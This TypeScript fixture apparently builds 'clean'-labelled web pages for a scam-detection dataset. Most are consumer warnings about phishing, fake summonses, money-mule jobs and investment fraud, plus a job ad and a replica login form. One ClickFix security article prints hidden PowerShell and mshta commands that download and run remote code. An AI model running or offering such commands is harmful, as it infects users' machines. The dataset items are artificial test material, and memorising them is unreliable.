import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, footerDe } from '../parts/zv-kit.js';
const art = (title: string, site: string, inner: string, lang = 'de') => doc({ title: `${title} | ${site}`, lang, css: '.art{max-width:760px;margin:0 auto;background:#fff;padding:28px}blockquote{background:#f4f4f4;border-left:4px solid #999;margin:12px 0;padding:10px 14px}code{background:#eee;padding:2px 4px}', body: `<header><div class="wrap"><b>${site}</b></div></header><div class="art"><h1>${title}</h1>${inner}</div>${footerDe(site)}` });

export const entries: Entry[] = [
{
  id: 'zv-ok-vz-warnung-sicher-bezahlen', label: 'clean', kind: 'consumer-advice-article',
  url: 'https://www.verbraucherzentrale.de/wissen/digitale-welt/phishingradar/kleinanzeigen-betrug-sicher-bezahlen',
  body: art('Betrug bei Kleinanzeigen: Vorsicht vor falschen „Sicher bezahlen“-Links', 'Verbraucherzentrale', `<p>Verkäuferinnen und Verkäufer erhalten derzeit Nachrichten wie:</p><blockquote>„Hallo, ich habe den Artikel bereits über Sicher bezahlen gekauft. Klicken Sie auf den Link, um die Zahlung zu erhalten: kleinanzeigen.de-sicher-bezahlen.com/deal/…“</blockquote><p>Auf der verlinkten Seite sollen Sie Kartennummer, Ablaufdatum, Prüfziffer und sogar Ihren Kontostand eingeben. <b>Tun Sie das nicht.</b> Um Geld zu empfangen, brauchen Sie nie Ihre Kartendaten anzugeben.</p><h2>Was tun, wenn ich Daten eingegeben habe?</h2><p>Lassen Sie Ihre Karte sofort über den Sperr-Notruf 116 116 sperren und erstatten Sie Anzeige bei der Polizei.</p>`),
},
{
  id: 'zv-ok-polizei-warnung-fake-vorladung', label: 'clean', kind: 'consumer-advice-article',
  url: 'https://www.polizei-beratung.de/aktuelles/detailansicht/falsche-vorladungen-per-e-mail/',
  body: art('Falsche Vorladungen per E-Mail im Namen von BKA und Europol', 'Polizeiliche Kriminalprävention', `<p>Aktuell kursieren E-Mails mit angeblichen Vorladungen des Bundeskriminalamts. Darin heißt es etwa:</p><blockquote>„Gegen Sie wird wegen des Besitzes kinderpornografischer Inhalte ermittelt. Sie haben 72 Stunden Zeit, eine Stellungnahme abzugeben und eine Ordnungsstrafe zu zahlen.“</blockquote><p>Die Polizei verschickt keine Vorladungen per E-Mail und verlangt niemals Zahlungen, um Verfahren einzustellen. Antworten Sie nicht, zahlen Sie nichts und erstatten Sie Anzeige über die Onlinewache Ihres Bundeslandes.</p>`),
},
{
  id: 'zv-ok-securityblog-clickfix-analyse', label: 'clean', kind: 'security-blog',
  url: 'https://www.heise.de/news/ClickFix-Angreifer-nutzen-falsche-CAPTCHAs-Nutzer-fuehren-Malware-selbst-aus.html',
  body: art('ClickFix: Falsche CAPTCHAs bringen Nutzer dazu, Malware selbst auszuführen', 'heise online', `<p>Kriminelle zeigen auf kompromittierten Websites eine vermeintliche „Ich bin kein Roboter“-Prüfung. Ein Klick kopiert unbemerkt einen Befehl in die Zwischenablage; anschließend sollen Opfer <code>Win+R</code>, <code>Strg+V</code> und <code>Enter</code> drücken. Beobachtete Befehle sahen etwa so aus:</p><pre><code>powershell -w h -nop -c "iex(irm https://[entfernt]/v.txt)" # ✅ I am not a robot - reCAPTCHA ID: 4481</code></pre><pre><code>mshta https://[entfernt]/fira.hta</code></pre><p>Administratoren können den Ausführen-Dialog per Gruppenrichtlinie deaktivieren und PowerShell-Ausführung mit AppLocker einschränken.</p>`),
},
{
  id: 'zv-ok-watchlist-paketagent-warnung', label: 'clean', kind: 'consumer-advice-article',
  url: 'https://www.watchlist-internet.at/news/paketagent-jobs-sind-geldwaesche/',
  body: art('Vorsicht bei Jobangeboten als „Paketagent“ oder „Finanzagent“', 'Watchlist Internet', `<p>Kriminelle suchen über Jobportale Menschen, die Pakete annehmen und weiterschicken oder Geld auf ihrem Konto empfangen und weiterleiten. Typische Formulierungen:</p><blockquote>„Pro Paket 25 € + Fixum. Keine Erfahrung notwendig. Senden Sie uns Vorder- und Rückseite Ihres Ausweises.“</blockquote><p>Wer als Paket- oder Finanzagent arbeitet, macht sich unter Umständen wegen Hehlerei oder Geldwäsche strafbar. Brechen Sie den Kontakt ab und melden Sie das Inserat.</p>`, 'de-AT'),
},
{
  id: 'zv-ok-gematik-epa-info', label: 'clean', kind: 'government-info',
  url: 'https://www.gematik.de/anwendungen/epa-fuer-alle',
  body: art('Die ePA für alle', 'gematik GmbH', `<p>Seit 2025 legen die gesetzlichen Krankenkassen für alle Versicherten eine elektronische Patientenakte an, sofern sie nicht widersprechen. Zugriff haben Sie über die ePA-App <b>Ihrer eigenen Krankenkasse</b> aus dem Google Play Store oder dem Apple App Store.</p><p>Es gibt keine „allgemeine ePA-App“ zum Download als APK-Datei. Ihre Krankenkasse verlangt für die Freischaltung weder Online-Banking-Zugangsdaten noch Gebühren.</p>`),
},
{
  id: 'zv-ok-cert-ch-fake-investment-fr', label: 'clean', kind: 'consumer-advice-article',
  url: 'https://www.ncsc.admin.ch/ncsc/fr/home/aktuell/im-fokus/investissements-frauduleux.html',
  body: art('Fausses publicités d\'investissement avec des célébrités', 'Office fédéral de la cybersécurité OFCS', `<p>Des articles imitant des médias suisses affirment qu'une personnalité connue a révélé « son secret » pour gagner de l'argent avec une plateforme de trading. Après l'inscription, un prétendu conseiller appelle et incite la victime à verser d'autres montants et à installer AnyDesk.</p><blockquote>« Avec un dépôt de 250 CHF, l'algorithme fait tout le travail. »</blockquote><p>Ne versez pas d'argent et signalez l'annonce via le formulaire de l'OFCS.</p>`, 'fr-CH'),
},
{
  id: 'zv-ok-apotheke-stellenanzeige-pta', label: 'clean', kind: 'job-offer',
  url: 'https://www.linden-apotheke-graz.at/karriere/pta-teilzeit',
  body: art('PTA (m/w/d) in Teilzeit, 20–30 Std.', 'Linden-Apotheke Graz', `<p>Wir suchen zur Verstärkung unseres Teams eine:n Pharmazeutisch-kaufmännische:n Assistent:in bzw. PTA. Gehalt nach Kollektivvertrag (ab € 2.410 brutto bei Vollzeit), Überzahlung je nach Erfahrung.</p><ul><li>Beratung in der Offizin</li><li>Warenwirtschaft und Rezeptur</li></ul><p>Bewerbung bitte an Mag. pharm. Eva Reiter, <b>bewerbung@linden-apotheke-graz.at</b> oder persönlich in der Apotheke, Annenstraße 42, 8020 Graz.</p>`, 'de-AT'),
},
{
  id: 'zv-ok-svnet-arbeitgeber-login', label: 'clean', kind: 'government-portal',
  url: 'https://standard.gkvnet-ag.de/svnet/',
  body: doc({ title: 'sv.net – Meldungen und Beitragsnachweise für Arbeitgeber', css: '.btn{background:#0a5d8a;color:#fff}', body: `<div class="wrap" style="max-width:560px"><div class="box" style="margin-top:30px"><h2>sv.net Anmeldung</h2><p>Für Arbeitgeber ohne Entgeltabrechnungsprogramm: Meldungen zur Sozialversicherung und Beitragsnachweise an die Krankenkassen.</p><form method="post" action="/svnet/login"><label>Betriebsnummer</label><input name="bbnr" maxlength="8"><label>Benutzerkennung</label><input name="kennung"><label>Passwort</label><input type="password" name="pw"><p><button class="btn">Anmelden</button></p></form><p style="font-size:12px">Betreiber: ITSG GmbH im Auftrag des GKV-Spitzenverbandes</p></div></div>` }),
},
{
  id: 'zv-ok-lokalzeitung-jauch-fake-artikel', label: 'clean', kind: 'consumer-advice-article',
  url: 'https://www.mimikama.org/jauch-fake-werbung-bitcoin/',
  body: art('Nein, Günther Jauch hat nicht „live im TV“ seinen Bitcoin-Trick verraten', 'Mimikama', `<p>Auf Facebook und Instagram tauchen wieder gefälschte Nachrichtenseiten auf, die Günther Jauch, Carsten Maschmeyer oder Frank Thelen mit angeblichen Anlageplattformen in Verbindung bringen. Die Überschriften lauten etwa:</p><blockquote>„Günther Jauch verplappert sich bei ‚Wer wird Millionär?‘ – Banken wollen, dass dieses Video gelöscht wird“</blockquote><p>Die Interviews sind erfunden. Wer sich registriert, wird von „Brokern“ angerufen, die zu immer höheren Einzahlungen drängen. Betroffene sollten sich an die Polizei und ihre Bank wenden.</p>`),
},
];
